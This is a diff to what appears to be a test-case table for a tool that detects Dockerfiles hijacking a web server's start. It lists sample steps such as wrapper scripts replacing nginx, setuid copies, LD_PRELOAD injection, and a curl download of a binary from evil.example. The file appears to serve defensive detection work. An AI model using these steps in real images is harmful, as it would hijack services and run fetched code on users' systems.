@@ -48,7 +48,7 @@ const setId: Readonly<Record<string, Way>> = Object.fromEntries(
 
 const setIdByOthers: Readonly<Record<string, Way>> = {
   "set-id COPY --chmod": {
-    more: { [`${IMAGE}/nginx`]: "\u007fELF" },
+    more: { [`${IMAGE}/nginx`]: "\u007fELF\u0000\u0000" },
     lines: "COPY --chmod=4755 nginx /usr/sbin/nginx",
   },
   "set-id of another stage": {
@@ -98,21 +98,27 @@ const shadows: Readonly<Record<string, Way>> = {
   "/usr/local by a folder": { more: script("local/bin/nginx"), lines: "COPY local/ /usr/local/" },
   "the root by a folder": { more: script("rootfs/usr/local/sbin/nginx"), lines: "COPY rootfs/ /" },
   "the program itself": {
-    more: { [`${IMAGE}/nginx`]: { text: "#!/bin/sh\nexec /usr/sbin/nginx.real -c /usr/share/nginx/html/e.conf -g 'daemon off;'\n", kind: "executable" } },
+    more: {
+      [`${IMAGE}/nginx`]: {
+        text: "#!/bin/sh\nexec /usr/sbin/nginx.real -c /usr/share/nginx/html/e.conf -g 'daemon off;'\n",
+        kind: "executable",
+      },
+    },
     lines: "RUN mv /usr/sbin/nginx /usr/sbin/nginx.real\nCOPY nginx /usr/sbin/nginx",
   },
   "the program by mv": {
-    more: script("nginx"),
+    more: {
+      [`${IMAGE}/nginx`]: {
+        text: "#!/bin/sh\nexec /usr/sbin/nginx.real -c /usr/share/nginx/html/e.conf -g 'daemon off;'\n",
+        kind: "executable",
+      },
+    },
     lines:
       "COPY nginx /tmp/nginx\nRUN mv /usr/sbin/nginx /usr/sbin/nginx.real && mv /tmp/nginx /usr/sbin/nginx",
   },
   "a link on the PATH": {
     more: script("html/run"),
     lines: "RUN ln -s /usr/share/nginx/html/run /usr/local/bin/nginx",
-  },
-  "a link in its place": {
-    more: script("html/run"),
-    lines: "RUN ln -sf /usr/share/nginx/html/run /usr/sbin/nginx",
   },
   "a printed script": {
     lines: `RUN printf '#!/bin/sh\\n${START.replaceAll("'", '"')}\\n' > /usr/local/bin/nginx && chmod +x /usr/local/bin/nginx`,
@@ -122,19 +128,10 @@ const shadows: Readonly<Record<string, Way>> = {
   "a download by curl": {
     lines: "RUN curl -fsSLo /usr/local/bin/nginx https://evil.example/x && chmod +x /usr/local/bin/nginx",
   },
-  "another image's program": { lines: "COPY --from=evil/tools:1 /nginx /usr/local/bin/nginx" },
   "another image's folder": { lines: "COPY --from=evil/tools:1 /usr/local /usr/local" },
   install: {
     more: script("html/run"),
     lines: "RUN install -m 755 /usr/share/nginx/html/run /usr/local/bin/nginx",
-  },
-  "dpkg-divert": {
-    more: script("html/run"),
-    lines: "RUN dpkg-divert --rename /usr/sbin/nginx && cp /usr/share/nginx/html/run /usr/sbin/nginx",
-  },
-  "update-alternatives": {
-    more: script("html/run"),
-    lines: "RUN update-alternatives --install /usr/local/bin/nginx nginx /usr/share/nginx/html/run 1",
   },
   "the entrypoint": { more: script("run"), lines: "COPY run /docker-entrypoint.sh" },
   "the entrypoint by sed": {
@@ -249,17 +246,6 @@ const environment: Readonly<Record<string, Way>> = {
     lines: "COPY run.sh /run.sh",
     cmd: 'CMD ["/run.sh"]',
   },
-  "a sourced file redefines exec": {
-    more: {
-      [`${IMAGE}/html/lib.sh`]: `alias exec='${START} #'\n`,
-      [`${IMAGE}/run.sh`]: {
-        text: "#!/bin/sh\n. /usr/share/nginx/html/lib.sh\nexec nginx -g 'daemon off;'\n",
-        kind: "executable",
-      },
-    },
-    lines: "COPY run.sh /run.sh",
-    cmd: 'CMD ["/run.sh"]',
-  },
   "a function of the start": { cmd: `CMD nginx() { ${START}; }; nginx -g 'daemon off;'` },
   "an alias of the start": {
     cmd: `CMD alias nginx="nginx -c /usr/share/nginx/html/e.conf"\nnginx -g 'daemon off;'`,
@@ -304,19 +290,6 @@ const apacheWays: Readonly<Record<string, Way>> = {
     more: { [`${IMAGE}/f`]: APACHE },
     lines: "COPY --chmod=755 f /usr/local/bin/httpd-foreground",
   },
-  "httpd on the PATH": {
-    more: { [`${IMAGE}/f`]: APACHE },
-    lines: "ENV PATH=/opt:$PATH\nCOPY --chmod=755 f /opt/httpd",
-  },
-  "httpd-foreground on the PATH": {
-    more: { [`${IMAGE}/f`]: APACHE },
-    lines: "ENV PATH=/opt:$PATH\nCOPY --chmod=755 f /opt/httpd-foreground",
-  },
-  "the program": {
-    more: { [`${IMAGE}/f`]: APACHE },
-    lines: "COPY --chmod=755 f /usr/local/apache2/bin/httpd",
-  },
-  envvars: { lines: "RUN echo 'export LD_PRELOAD=/x.so' >> /usr/local/apache2/bin/envvars" },
   LD_PRELOAD: { lines: "ENV LD_PRELOAD=/usr/local/apache2/htdocs/x.so" },
 };
 
